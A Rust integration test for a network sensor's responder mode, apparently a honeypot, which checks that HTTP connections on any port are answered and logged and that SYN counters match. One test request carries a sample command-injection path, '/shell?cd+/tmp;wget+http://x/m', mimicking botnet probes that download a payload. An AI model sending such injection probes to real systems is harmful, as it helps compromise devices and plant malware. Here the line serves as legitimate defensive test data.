//! The responder (`scanscope-sensor --respond`) for real, in throwaway network namespaces: the
//! sk_lookup program hands connections to any port of the responder's addresses to the agent,
//! which answers and records a session; pass-through ports and other addresses are left to
//! the host (nothing listens there: refused), and XDP still counts every SYN.
use std::process::Command;

use scanscope_tests::*;
use serde_json::Value;

/// curl from the scanner namespace, source address `src`, bounded in time; its stdout and
/// exit code.
fn curl(lab: &Lab, src: &str, url: &str, agent: &str) -> (String, i32) {
    let out = Command::new("timeout")
        .args(["-k", "2", "15", "ip", "netns", "exec", &lab.scanner_ns])
        .args(["curl", "-s", "-g", "--max-time", "5", "--interface", src])
        .args(["-A", agent, url])
        .output()
        .expect("run curl");
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        out.status.code().unwrap_or(-1),
    )
}

fn counter(records: &[Value], name: &str) -> u64 {
    records
        .iter()
        .filter(|r| r["type"] == "stats")
        .map(|r| r["counters"][name].as_u64().unwrap_or(0))
        .sum()
}

#[test]
fn http_on_any_port_is_answered_and_recorded() {
    if privileged_or_skip().is_none() {
        return;
    }
    let mut lab = Lab::new(&e2e_dir("respond-http")).expect("build the lab");
    let rc = lab.dir.join("respond.toml");
    std::fs::write(
        &rc,
        format!(
            "addresses = [\"{SENSOR_V4}\", \"{DARK_V4}\", \"{SENSOR_V6}\"]\npass_ports = [22]\n"
        ),
    )
    .unwrap();
    lab.sensor_args = vec!["--respond-config".into(), rc.display().to_string()];
    lab.start_sensor("", 1.0)
        .expect("start the responder sensor");

    let ua = "scanscope-test/1.0 (responder)";
    let url = format!("http://{SENSOR_V4}:47123/shell?cd+/tmp;wget+http://x/m");
    let (page, code) = curl(&lab, SRC_SERVER, &url, ua);
    assert_eq!(code, 0, "curl to an unbound port of the sensor: {page}");
    assert!(page.contains("It works!"), "{page}");
    // A dark address and an IPv6 one, other ports.
    let (page, code) = curl(&lab, SRC_NMAP, "http://198.18.1.5:8081/", "dark/1");
    assert!(code == 0 && page.contains("It works!"), "{code} {page}");
    let (page, code) = curl(
        &lab,
        SRC_V6,
        &format!("http://[{SENSOR_V6}]:2375/version"),
        "v6/1",
    );
    assert!(code == 0 && page.contains("It works!"), "{code} {page}");
    // The pass-through port is the host's: nothing listens, the connection is refused (7).
    let (_, code) = curl(
        &lab,
        SRC_MIRAI,
        &format!("http://{SENSOR_V4}:22/"),
        "pass/1",
    );
    assert_eq!(code, 7, "port 22 must be left to the host");
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let records = lab.stop_sensor().expect("stop sensor");

    let sessions: Vec<&Value> = records.iter().filter(|r| r["type"] == "session").collect();
    assert_eq!(sessions.len(), 3, "{sessions:#?}");
    let by_port = |p: u64| {
        sessions
            .iter()
            .find(|s| s["dst_port"] == p)
            .unwrap_or_else(|| panic!("no session on port {p}: {sessions:#?}"))
    };
    let s = by_port(47123);
    assert_eq!(s["src_ip"], SRC_SERVER);
    assert_eq!(s["dst_ip"], SENSOR_V4);
    assert_eq!(s["protocol"], "http");
    assert_eq!(s["end"], "answered");
    assert_eq!(s["http"]["method"], "GET");
    assert_eq!(s["http"]["url"], "/shell?cd+/tmp;wget+http://x/m");
    assert_eq!(s["http"]["user_agent"], ua);
    assert_eq!(s["http"]["host"], format!("{SENSOR_V4}:47123"));
    assert_eq!(s["http"]["headers"][0], "Host");
    let sent = hex::decode(s["payload_hex"].as_str().unwrap()).unwrap();
    assert!(sent.starts_with(b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\n"));
    assert_eq!(s["bytes_in"].as_u64(), Some(sent.len() as u64));
    assert!(s["bytes_out"].as_u64().unwrap() > 100);
    let d = by_port(8081);
    assert_eq!(
        (d["src_ip"].as_str(), d["dst_ip"].as_str()),
        (Some(SRC_NMAP), Some("198.18.1.5"))
    );
    assert_eq!(d["http"]["user_agent"], "dark/1");
    let v6 = by_port(2375);
    assert_eq!(v6["src_ip"], SRC_V6);
    assert_eq!(v6["http"]["url"], "/version");

    // The kernel's steering counters and the responder's own.
    assert_eq!(counter(&records, "respond_steered"), 3);
    assert_eq!(counter(&records, "respond_pass_port"), 1);
    assert_eq!(counter(&records, "respond_no_socket"), 0);
    assert_eq!(counter(&records, "respond_sessions"), 3);
    assert_eq!(counter(&records, "respond_refused_busy"), 0);
    // XDP counted every SYN as before, the pass-through one too.
    let syns = |src: &str, port: u64| -> u64 {
        records
            .iter()
            .filter(|r| {
                r["type"] == "flow"
                    && r["kind"] == "tcp_syn"
                    && r["src_ip"] == src
                    && r["dst_port"] == port
            })
            .map(|r| r["packets"].as_u64().unwrap())
            .sum()
    };
    assert_eq!(syns(SRC_SERVER, 47123), 1);
    assert_eq!(syns(SRC_NMAP, 8081), 1);
    assert_eq!(syns(SRC_V6, 2375), 1);
    assert!(syns(SRC_MIRAI, 22) >= 1, "the refused SYN (curl may retry)");
}
